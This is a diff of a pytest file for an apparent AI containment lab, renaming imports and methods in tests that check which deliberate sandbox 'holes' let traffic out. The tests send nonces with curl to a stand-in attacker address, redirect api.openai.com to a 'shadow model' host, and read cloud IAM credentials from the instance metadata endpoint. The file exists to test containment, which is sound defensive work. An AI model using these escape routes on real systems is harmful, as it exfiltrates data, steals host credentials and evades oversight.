@@ -8,14 +8,14 @@ from pathlib import Path
 
 import pytest
 
-from containment.lab.home import LabHome
-from containment.lab.world.control import World
-from containment.lab.world.receipts import new_nonce
-from containment.lab.world.tools import missing
+from containment_lab.home import LabHome
+from containment_lab.internet.receipts import make_nonce
+from containment_lab.linux.tools import list_missing
+from containment_lab.network.control import LabNetwork
 from tests.deployment.lab import Lab
 from tests.deployment.world import arrived
 
-pytestmark = [pytest.mark.slow, pytest.mark.namespaces, pytest.mark.skipif(bool(missing()), reason="; ".join(missing()))]
+pytestmark = [pytest.mark.slow, pytest.mark.namespaces, pytest.mark.skipif(bool(list_missing()), reason="; ".join(list_missing()))]
 FOLDER = Path(__file__).parent / "holes"
 CREDENTIALS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
 VIOLATION = 3
@@ -37,25 +37,27 @@ def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
         own.down()
 
 
-def sends(world: World, *words: str) -> set[str]:
+def sends(world: LabNetwork, *words: str) -> set[str]:
     """Send a nonce the way `curl` is told and return who has it then; in place of `NONCE` it stands in the command."""
-    nonce = new_nonce()
+    nonce = make_nonce()
     command = ["curl", "-sk", "-m", "3", *(word.replace("NONCE", nonce) for word in words)]
-    subprocess.run(world.command(command), capture_output=True, check=False)
+    subprocess.run(world.build_privileged_command(command), capture_output=True, check=False)
     return arrived(world, nonce)
 
 
-def asked(world: World, url: str) -> str:
-    return subprocess.run(world.command(["curl", "-sf", "-m", "3", url]), capture_output=True, text=True, check=False).stdout
+def asked(world: LabNetwork, url: str) -> str:
+    return subprocess.run(
+        world.build_privileged_command(["curl", "-sf", "-m", "3", url]), capture_output=True, text=True, check=False
+    ).stdout
 
 
-def escapes(world: World) -> dict[str, bool]:
+def escapes(world: LabNetwork) -> dict[str, bool]:
     """Return which ways out there are: to an attacker on any port, to a shadow model, and the host's credentials without a token."""
     to_attacker = sends(world, "http://203.0.113.5:8080/NONCE")
     to_shadow = sends(world, "--resolve", "api.openai.com:443:198.19.1.1", "https://api.openai.com/NONCE")
     role = asked(world, CREDENTIALS)
     taken = asked(world, CREDENTIALS + role)
-    held = world.ask("status")["credential_nonces"].values()
+    held = world.send_command("status")["credential_nonces"].values()
     return {"attacker": bool(to_attacker), "shadow": bool(to_shadow), "credentials": any(nonce in taken for nonce in held)}
 
 
@@ -72,8 +74,8 @@ EXPECTED = {
 @pytest.mark.parametrize("hole", EXPECTED)
 def test_a_hole_is_shown_by_what_escapes_and_nothing_else_does(lab: Lab, hole: str) -> None:
     lab.must("up", "dev", "--config", f"hole={hole}", "--skip-preview", folder=FOLDER, pack=None)
-    world = World(LabHome(lab.home), "dev")
-    world.up()
+    world = LabNetwork(LabHome(lab.home), "dev")
+    world.bring_up()
     assert escapes(world) == EXPECTED[hole]
 
 
